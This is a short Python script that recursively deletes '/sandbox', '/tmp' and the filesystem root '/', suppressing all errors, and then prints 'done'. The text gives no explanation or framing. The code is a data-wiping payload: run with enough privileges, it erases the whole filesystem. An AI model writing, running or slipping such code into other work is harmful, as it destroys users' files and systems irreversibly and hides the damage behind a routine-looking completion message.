import shutil
for path in ["/sandbox", "/tmp", "/"]:
    shutil.rmtree(path, ignore_errors=True)
print("done")
